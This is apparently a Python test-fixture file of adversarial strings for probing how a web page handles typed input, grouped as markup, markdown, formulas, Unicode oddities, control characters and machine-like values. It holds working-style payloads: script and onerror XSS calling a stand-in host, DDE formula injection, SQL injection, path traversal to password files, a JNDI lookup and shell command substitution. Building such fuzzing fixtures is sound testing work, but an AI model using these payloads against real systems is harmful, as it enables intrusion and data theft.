"""What someone who wants to break a page types into it, by name."""

import unicodedata

FAR = "http://elsewhere.invalid"  # a host that must never be asked
LETTERS_100_KB = "Long words. " * 8_534

FORMULAS = (
    "=1+1",
    "+1",
    "-1",
    "@SUM(A1)",
    '=HYPERLINK("http://elsewhere.invalid","x")',
    "＝1+1",
    "\t=1",
    "'=1",
    "=cmd|'/c x'!A0",
)
MARKUP = (
    f"<script>fetch('{FAR}')</script>",
    f"<img src={FAR}/a.png onerror=alert(1)>",
    f"<svg onload=\"location='{FAR}'\"></svg>",
    "</textarea></p></div><b>out</b>",
    "<style>*{display:none}</style>",
    "<!-- away",
    "<a href='javascript:alert(1)'>x</a>",
    "&lt;b&gt; &amp; &#60;i&#62; &nbsp;",
    "\"><iframe srcdoc='<script>alert(1)</script>'>",
    "{{7*7}} ${7*7} #{7*7} <%= 7*7 %>",
    "%s %(name)s {0} {name} {words}",
)
MARKDOWN = (
    f"![]({FAR}/a.png)",
    f"![dot][1]\n\n[1]: {FAR}/dot.png",
    f"[link]({FAR})",
    f"<{FAR}>",
    f"{FAR}/a www.elsewhere.invalid me@elsewhere.invalid",
    "# Heading",
    "* one\n* two",
    "1. one",
    "***bold*** _it_ ~~gone~~ `code`",
    "```\nfence\n```",
    "    indented",
    "> quoted",
    "| a | b |\n| - | - |\n| 1 | 2 |",
    "---",
    "[^1] and [ ] and [x]",
    "$x$ $$\\frac{1}{2}$$ \\(y\\)",
    "\\$ \\* \\\\ \\",
    ":material/home:",
    ":red[x] :blue-background[y] :small[z]",
    ":smile: :streamlit:",
    "a -> b <- c <-> d -- e >= f",
)
SIGNS = (
    "👩‍❤️‍💋‍👩 👨‍👩‍👧‍👦 🏳️‍🌈 🇳🇵 👍🏿",
    "\u202eback to front\u202c then \u2066inside\u2069",
    "\u202enever closed",
    "שלום עולם مرحبا بالعالم",
    "Z͑ͫ̓ͪ̂ͫ̽͏̴̙̤̞͉͚̯̞̠͍A̴̵̜̰͔ͫ͗͢L̠ͨͧͩ͘G̴̻͈͍͔̹̑͗̎̅͛́Ǫ̵̹̻̝̳͂̌̌͘!͖̬̰̙̗̿̋ͥͥ̂ͣ̐́́͜͞",
    "e\u0301 é \u1112\u1161\u11ab 한",
    "ﬁ ² Ⅷ ㎏ ſ İ ı ß",
    "नमस्ते 你好 こんにちは ไทย",
    "\U0001f9d1\U0001d54f\U00020000\U000e0041",
    "non\u00a0breaking\u2009thin\u3000wide",
    "zero\u200bwidth\ufeffjoin\u2060ed soft\u00adhyphen",
)
UNSEEN = ("\u200b\u200b", "\u2060\ufeff", "\u202e")
CONTROLS = (
    "bell\x07 and back\x08",
    "\x1b[31mred\x1b[0m",
    "a\x0bb\x0cc\x1dd\x85e\u2028f\u2029g",
    "\x7f\x80\x9f",
    "\ufffe\uffff",
)
NUL = ("a\x00b", "\x00")
LINES = ("one\r\ntwo\r\nthree", "one\rtwo", "\n\n\nlate", "tab\tbed", "end\n")
MACHINES = (
    '{"a": [1, null, "b"]}',
    "null",
    "true",
    "[]",
    "0",
    "../../etc/passwd",
    "..\\..\\windows\\win.ini",
    "file:///etc/passwd",
    "CON",
    "'; DROP TABLE answers; --",
    "1' OR '1'='1",
    "quote \" and ' and `",
    "a,b;c\td",
    "${jndi:ldap://elsewhere.invalid/a}",
    "$(touch /tmp/x) `touch /tmp/x` | x",
    "undefined",
    "NaN",
    "__proto__",
    "–",
)
EMPTY = ("", " ", "   \t ", "\n", "\u3000")

EVERY = (
    *("Just words", *EMPTY, LETTERS_100_KB),
    *(*MARKUP, *MARKDOWN, *FORMULAS, *SIGNS, *UNSEEN, *CONTROLS, *NUL, *LINES, *MACHINES),
)
FEW = (
    *("Just words", *EMPTY[:2], LETTERS_100_KB),
    *(MARKUP[0], MARKUP[1], MARKUP[3], MARKDOWN[0], MARKDOWN[2], MARKDOWN[15], MARKDOWN[17], MARKDOWN[18]),
    *(FORMULAS[0], SIGNS[0], SIGNS[2], SIGNS[4], UNSEEN[0], *CONTROLS[:2], *NUL, LINES[0], MACHINES[0], MACHINES[5]),
)
"""One of each sort, for where every try costs."""


def can_be_seen(text: str) -> bool:
    """Whether any sign of it leaves a mark on paper; a name that leaves none is refused."""
    return any(unicodedata.category(sign)[0] in "LMNPS" for sign in text)
